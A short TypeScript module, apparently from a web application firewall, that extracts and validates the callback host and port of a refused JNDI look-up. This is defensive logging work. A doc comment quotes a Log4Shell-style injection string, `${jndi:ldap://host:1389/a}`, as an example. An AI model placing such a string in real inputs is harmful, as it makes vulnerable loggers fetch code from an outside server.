import type { Transaction } from '../../engine/waf/index.ts'

/** Host and port a refused look-up wanted our side to contact: `${jndi:ldap://host:1389/a}`. Nothing else of the value. */
export type Callback = { readonly callbackHost: string; readonly callbackPort?: number }

const NAME = /^(?=.{4,253}$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)+$/

/** What the rules kept of it (`tx.callback_host`, `tx.callback_port`); undefined when it is no host name or address. */
export function callbackOf(transaction: Transaction): Callback | undefined {
  const host = transaction.variable('callback_host') ?? ''
  // Nine digits in a row may be somebody's number, written as a name.
  if (!NAME.test(host) || /\d{9}/.test(host)) return undefined
  const port = Number(transaction.variable('callback_port') ?? '')
  return Number.isInteger(port) && port > 0 && port <= 65_535
    ? { callbackHost: host, callbackPort: port }
    : { callbackHost: host }
}
